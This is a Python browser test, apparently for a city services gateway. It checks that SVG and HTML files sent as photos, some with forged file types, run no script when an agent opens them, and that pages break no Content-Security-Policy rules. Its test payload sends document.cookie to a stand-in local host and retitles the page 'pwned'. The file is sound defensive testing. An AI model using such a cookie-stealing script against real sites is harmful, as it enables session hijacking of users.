"""In a real browser (Debian's Chromium through Playwright): an agent opening an attachment made of SVG or HTML
with a script runs no script, and our own pages break no rule of their Content-Security-Policy."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlmodel import select

from channels.standins.twilio import inbound_whatsapp_params, sign_and_post
from gateway.outbound.worker import Worker
from store import attachments
from store.models import Attachment, Case
from tests.conftest import ACCOUNT_SID, AUTH_TOKEN, GATEWAY_NUMBER, serve_app
from tests.gateway.engine.test_photos import POTHOLE, RESIDENT, recording_server
from tests.gateway.web.backoffice.conftest import PASSWORD, make_agent
from tests.gateway.web.test_browser_flow import BROWSER_ARGS, CHROMIUM

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's chromium is not installed (.ci/run installs it)"),
]

# Each would retitle the page and call the stand-in at 127.0.0.2 if it ran.
SCRIPT = 'document.title = "pwned"; fetch("{leak}/leak?c=" + document.cookie); new Image().src = "{leak}/img";'
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script><rect width="9" height="9"/></svg>'
HTML = '<!doctype html><html><head><title>photo</title></head><body><script>{script}</script></body></html>'
# Chromium reports what a page's policy blocked; our pages must block nothing of their own.
WATCH_POLICY = """window.__violations = [];
document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"""


def test_an_agent_opening_svg_or_html_attachments_runs_no_script(rt, twilio, make_runtime):
    from playwright.sync_api import Error, sync_playwright

    runtime = make_runtime(public_url="http://127.0.0.1:8000")  # what the browser sees: plain http on loopback
    make_agent(runtime, "voirie@mairie.example", services=("valmont-voirie",))
    with recording_server("127.0.0.2") as (leak, seen), serve_app(runtime) as gateway:
        script = SCRIPT.format(leak=leak)
        # Through the real webhook, an SVG (its bytes 4-8 reading `ftyp`) and an HTML page sent as photos.
        svg, html = SVG.format(script=script).encode(), HTML.format(script=script).encode()
        for body, content_type in ((b"\0\0\0\0ftyp" + svg, "image/svg+xml"), (html, "text/html")):
            params = inbound_whatsapp_params(from_=RESIDENT, to=GATEWAY_NUMBER, account_sid=ACCOUNT_SID, body=POTHOLE,
                                             media=[(twilio.add_media(body, content_type), content_type)])
            path = "/webhooks/twilio/messages"
            assert sign_and_post(gateway.url + path, params, AUTH_TOKEN,
                                 public_url=runtime.settings.public_url + path).status_code == 200
        Worker(runtime).run_once()
        with runtime.db.session() as session:
            case = session.exec(select(Case)).one()
            refused = [a.missing for a in session.exec(select(Attachment)).all()]
            # And files kept as they came, as before photos were re-encoded, under every type they could claim.
            legacy = {}
            for name, data, content_type in (("old.svg", svg, "image/svg+xml"), ("old.html", html, "text/html"),
                                             ("lying.jpg", svg, "image/jpeg"), ("lying.png", html, "image/png")):
                path = Path(runtime.settings.media_dir) / "inbound" / name
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_bytes(data)
                legacy[name] = attachments.keep(session, path=str(path), content_type=content_type, case_id=case.id)
        assert refused == ["format", "format"]

        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=BROWSER_ARGS)
            page = browser.new_context(accept_downloads=True).new_page()
            dialogs: list[str] = []
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.goto(gateway.url + "/agents/connexion")
            page.fill("#email", "voirie@mairie.example")
            page.fill("#password", PASSWORD)
            page.click("button[type=submit]")
            page.add_init_script(WATCH_POLICY)
            page.goto(f"{gateway.url}/agents/dossiers/{case.reference}")
            page.wait_for_load_state("networkidle")
            shown = page.content()
            case_violations = page.evaluate("window.__violations")
            titles = {}
            for name, attachment_id in legacy.items():
                try:
                    page.goto(f"{gateway.url}/agents/photos/{attachment_id}")
                    page.wait_for_load_state("networkidle")
                    titles[name] = page.title()
                except Error as err:  # a download: the browser does not even open it
                    titles[name] = "download" if "Download is starting" in str(err) else str(err)
            public_violations = {}
            for path in ("/", "/carte", "/statistiques", f"/suivi/{case.reference}"):
                page.goto(gateway.url + path)
                page.wait_for_load_state("networkidle")
                public_violations[path] = page.evaluate("window.__violations")
            browser.close()

    assert shown.count("non récupérée") == 2
    assert titles["old.svg"] == titles["old.html"] == "download"
    assert "pwned" not in titles.values()
    assert (seen, dialogs) == ([], [])
    assert case_violations == [] and public_violations == {path: [] for path in public_violations}

